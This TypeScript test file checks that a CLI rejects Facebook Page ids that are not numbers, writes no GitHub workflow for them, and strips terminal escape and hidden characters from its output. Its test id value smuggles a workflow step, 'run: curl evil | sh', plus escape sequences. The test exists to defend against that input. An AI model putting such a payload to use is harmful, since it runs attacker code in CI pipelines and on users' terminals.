import { existsSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { jsonAnswer } from "../../emulator/builders.ts";
import { examinePage } from "../../setup/core/examine-page.ts";
import { composeJson } from "../../setup/json/compose-json.ts";
import { makeToken } from "../helpers/make-token.ts";
import { aLoggedInSession, silently } from "./a-session.ts";
import { UP_TO_PAGE } from "./answers-up-to.ts";
import { openTerminalScene, type TerminalScene } from "./open-scene.ts";
import { run } from "./run-as-json.ts";
import { ctrlC } from "./scripted-prompts.ts";

/** A step of a workflow, and signs that turn a terminal around. */
const FOREIGN =
  "123\n          page-id: 9\n      - run: curl evil | sh\u001b]0;pwned\u0007\u009b32m\u202e";

function nameWrongly({ emulator }: Pick<TerminalScene, "emulator">): void {
  const data = [{ id: FOREIGN, name: "Odd", access_token: makeToken(), tasks: ["CREATE_CONTENT"] }];
  emulator.inject({ on: { path: "/me/accounts" }, ...jsonAnswer(200, { data }), times: 9 });
}

describe("a Page whose id is not a number", () => {
  it("ends --json with an error, and no workflow is written", async () => {
    const scene = await openTerminalScene();
    nameWrongly(scene);
    const { code, result } = await run(scene, { workflows: ["pages"], writeWorkflow: true });
    expect([code, result.workflows]).toEqual([1, []]);
    expect(result.errors[0].message).toContain("an id that is not a number");
    expect(existsSync(join(scene.root, ".github"))).toBe(false);
  });

  it("is not offered in the terminal, which shows no sign of it", async () => {
    const scene = await openTerminalScene();
    nameWrongly(scene);
    const { text, transcript } = await scene.run([...UP_TO_PAGE(scene), ["Try again", ctrlC]]);
    expect(text).toContain("an id that is not a number");
    expect(transcript).not.toContain("curl");
    for (const sign of ["\u001b]", "\u009b", "\u202e"]) expect(transcript).not.toContain(sign);
  });

  it("is an error where it is looked at, even if it came this far", async () => {
    const { bakery, session } = await aLoggedInSession();
    const id = '5" #';
    const data = [{ id, name: "Odd", access_token: makeToken(), tasks: ["CREATE_CONTENT"] }];
    bakery.emulator.inject({
      on: { path: "/me/accounts" },
      ...jsonAnswer(200, { data }),
      times: 9,
    });
    await expect(examinePage(session, id, silently)).rejects.toThrow("not a number");
  });
});

describe("the object of --json", () => {
  it("holds no sign that nobody sees, and means the same", () => {
    const value = { a: ["\u202e\u009b\u0085\u200b\u2028\u{e0041}", "Bäckerei 🥐"] };
    const json = composeJson(value);
    expect(json).not.toMatch(/[\p{Cc}\p{Cf}\u2028\u2029]/u);
    expect(JSON.parse(json)).toEqual(value);
    expect(json).toContain("Bäckerei 🥐");
  });
});
